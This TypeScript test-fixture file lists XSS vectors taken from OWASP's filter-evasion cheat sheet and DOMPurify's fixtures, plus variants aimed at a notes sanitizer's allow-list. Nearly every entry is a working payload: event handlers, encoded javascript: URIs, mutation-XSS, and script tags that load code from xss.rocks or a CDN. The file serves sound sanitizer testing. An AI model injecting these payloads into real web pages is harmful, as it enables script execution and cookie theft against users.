/**
 * Script-injection attempts against the notes HTML. Sources: the OWASP XSS Filter Evasion Cheat
 * Sheet (cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html) and
 * DOMPurify's test fixtures (github.com/cure53/DOMPurify, test/fixtures/expect.mjs), plus
 * variations aimed at this allow-list (Quill list attributes, image sizes, link targets). The one
 * corpus for every suite: the sanitizer's tests, the notes API tests and the browser tests.
 */
export interface XssVector {
  source: 'owasp' | 'dompurify' | 'allow-list';
  html: string;
}

const owasp = (html: string): XssVector => ({ source: 'owasp', html });
const dompurify = (html: string): XssVector => ({ source: 'dompurify', html });
const allowList = (html: string): XssVector => ({ source: 'allow-list', html });

export const XSS_VECTORS: XssVector[] = [
  // OWASP XSS Filter Evasion Cheat Sheet
  owasp(`<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>`),
  owasp(
    `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"\`/+/onmouseover=1/+/[*/[]/+alert(42);//'>`,
  ),
  owasp(`<IMG SRC="javascript:alert('XSS');">`),
  owasp(`<IMG SRC=javascript:alert('XSS')>`),
  owasp(`<IMG SRC=JaVaScRiPt:alert('XSS')>`),
  owasp(`<IMG SRC=javascript:alert(&quot;XSS&quot;)>`),
  owasp('<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>'),
  owasp(`\\<a onmouseover="alert(document.cookie)"\\>xxs link\\</a\\>`),
  owasp(`\\<a onmouseover=alert(document.cookie)\\>xxs link\\</a\\>`),
  owasp(`<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`),
  owasp(`<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`),
  owasp(`<IMG SRC=# onmouseover="alert('xxs')">`),
  owasp(`<IMG SRC= onmouseover="alert('xxs')">`),
  owasp(`<IMG onmouseover="alert('xxs')">`),
  owasp(`<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`),
  owasp(
    `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  ),
  owasp(
    `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  ),
  owasp(
    `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
  ),
  owasp(
    `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  ),
  owasp(`<IMG SRC="jav\tascript:alert('XSS');">`),
  owasp(`<IMG SRC="jav&#x09;ascript:alert('XSS');">`),
  owasp(`<IMG SRC="jav&#x0A;ascript:alert('XSS');">`),
  owasp(`<IMG SRC="jav&#x0D;ascript:alert('XSS');">`),
  owasp(`<IMG SRC=" &#14;  javascript:alert('XSS');">`),
  owasp(`<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`),
  owasp(`<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`),
  owasp(`<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>`),
  owasp(`<<SCRIPT>alert("XSS");//\\<</SCRIPT>`),
  owasp(`<SCRIPT SRC=http://xss.rocks/xss.js?< B >`),
  owasp(`<SCRIPT SRC=//xss.rocks/.j>`),
  owasp(`<IMG SRC="\`<javascript:alert>\`('XSS')"`),
  owasp(`<iframe src=http://xss.rocks/scriptlet.html <`),
  owasp(`</TITLE><SCRIPT>alert("XSS");</SCRIPT>`),
  owasp(`<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`),
  owasp(`<BODY BACKGROUND="javascript:alert('XSS')">`),
  owasp(`<IMG DYNSRC="javascript:alert('XSS')">`),
  owasp(`<IMG LOWSRC="javascript:alert('XSS')">`),
  owasp(`<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`),
  owasp(`<IMG SRC='vbscript:msgbox("XSS")'>`),
  owasp(`<IMG SRC="livescript:[code]">`),
  owasp(`<svg/onload=alert('XSS')>`),
  owasp(`<BODY ONLOAD=alert('XSS')>`),
  owasp(`<BGSOUND SRC="javascript:alert('XSS');">`),
  owasp(`<BR SIZE="&{alert('XSS')}">`),
  owasp(`<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`),
  owasp(`<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`),
  owasp(`<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`),
  owasp(`<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>`),
  owasp(`<STYLE>@im\\port'\\ja\\vasc\\ript:alert("XSS")';</STYLE>`),
  owasp(`<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`),
  owasp(`<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`),
  owasp(`<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`),
  owasp(`<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>`),
  owasp(`<XSS STYLE="behavior: url(xss.htc);">`),
  owasp(`<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`),
  owasp(
    `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  ),
  owasp(`<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`),
  owasp(`<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`),
  owasp(`<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`),
  owasp(`<TABLE BACKGROUND="javascript:alert('XSS')">`),
  owasp(`<TABLE><TD BACKGROUND="javascript:alert('XSS')">`),
  owasp(`<DIV STYLE="background-image: url(javascript:alert('XSS'))">`),
  owasp(
    `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">`,
  ),
  owasp(`<DIV STYLE="width: expression(alert('XSS'));">`),
  owasp(`<BASE HREF="javascript:alert('XSS');//">`),
  owasp(`<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`),
  owasp(
    `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  ),
  owasp(
    `<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML><SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>`,
  ),
  owasp(
    `<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert("XSS")</SCRIPT>"></BODY></HTML>`,
  ),
  owasp(`<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`),
  owasp(`<SCRIPT "a='>'" SRC="httx://xss.rocks/xss.js"></SCRIPT>`),
  owasp(`<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>`),
  owasp(`<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`),
  owasp(`<A HREF="//www.google.com/">XSS</A>`),
  owasp(`<A HREF="http://0x42.0x0000066.0x7.0x93/" onclick="alert(1)">XSS</A>`),
  // DOMPurify fixtures
  dompurify(`<a href="javascript:alert(1)">click</a>`),
  dompurify(`<a href="jav&#x09;ascript:alert(1)">click</a>`),
  dompurify(`<a href=" &#14;javascript:alert(1)">click</a>`),
  dompurify(`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>`),
  dompurify(`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`),
  dompurify(`<svg><g onload="javascript:alert(1)"></g></svg>`),
  dompurify(`<svg><style><img src=x onerror=alert(1)></style></svg>`),
  dompurify(`<math><mi xlink:href="data:x,<script>alert(1)</script>">`),
  dompurify(`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`),
  dompurify(`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`),
  dompurify(`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`),
  dompurify(`<template><script>alert(1)</script></template>`),
  dompurify(
    `<div id="1"><form id="foobar"></form><button form="foobar" formaction="javascript:alert(1)">X</button></div>`,
  ),
  dompurify(`<form action="javascript:alert(1)"><input type="submit" id="x"></form>`),
  dompurify(`<details open ontoggle=alert(1)>`),
  dompurify(`<video><source onerror="javascript:alert(1)"></video>`),
  dompurify(`<audio src=x onerror=alert(1)>`),
  dompurify(`<marquee onstart=alert(1)>`),
  dompurify(`<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`),
  dompurify(`<img src=x:alert(alt) onerror=eval(src) alt=0>`),
  dompurify(
    `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>`,
  ),
  dompurify(`<!--<img src=x onerror=alert(1)>-->`),
  dompurify(`<![CDATA[<script>alert(1)</script>]]>`),
  dompurify(`<p>hello<iframe src="https://example.com"></iframe></p>`),
  dompurify(`<object data="javascript:alert(1)"></object>`),
  dompurify(`<embed src="javascript:alert(1)">`),
  dompurify(`<img srcset="x 1x, javascript:alert(1) 2x">`),
  dompurify(`<a href="#" onclick="alert(1)">x</a>`),
  dompurify(`<isindex type=image src=1 onerror=alert(1)>`),
  dompurify(`<textarea><script>alert(1)</script></textarea>`),
  dompurify(`<title><img src=x onerror=alert(1)></title>`),
  dompurify(`<xmp><img src=x onerror=alert(1)></xmp>`),
  dompurify(`<select><img src=x onerror=alert(1)></select>`),
  dompurify(`<style><img src=x onerror=alert(1)></style>`),
  // aimed at what this allow-list keeps
  allowList(`<li data-list="bullet" onclick="alert(1)">item</li>`),
  allowList(
    `<ol><li data-list="javascript:alert(1)" style="background:url(javascript:alert(1))">x</li></ol>`,
  ),
  allowList(`<h1 onclick=alert(1) style="color:expression(alert(1))">t</h1>`),
  allowList(
    `<a href="https://example.com" target="_self" rel="opener" onmouseover="alert(1)">x</a>`,
  ),
  allowList(`<a href="mailto:a@b.co" target="_top">mail</a>`),
  allowList(`<a href="vbscript:msgbox(1)">x</a>`),
  allowList(`<a href="  JaVaScRiPt:alert(1)">x</a>`),
  allowList(`<img src="https://example.com/x.png" width="100 onload=alert(1)" height="1e9">`),
  allowList(
    `<img src="https://example.com/x.png" onload="alert(1)" style="width:expression(alert(1))">`,
  ),
  allowList(`<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`),
  allowList(`<img src="data:image/png;base64,iVBOR<script>alert(1)</script>">`),
  allowList(`<img src="//evil.example/x.png">`),
  allowList(`<p style="background:url(javascript:alert(1))">x</p>`),
  allowList(`<blockquote cite="javascript:alert(1)">q</blockquote>`),
  allowList(`<strong><script>alert(1)</script></strong>`),
  allowList(`<span class="ql-ui" contenteditable="false" onmouseover="alert(1)"></span>`),
  allowList(`<p>1 &lt; 2 <b onclick="alert(1)">bold</b></p>`),
];
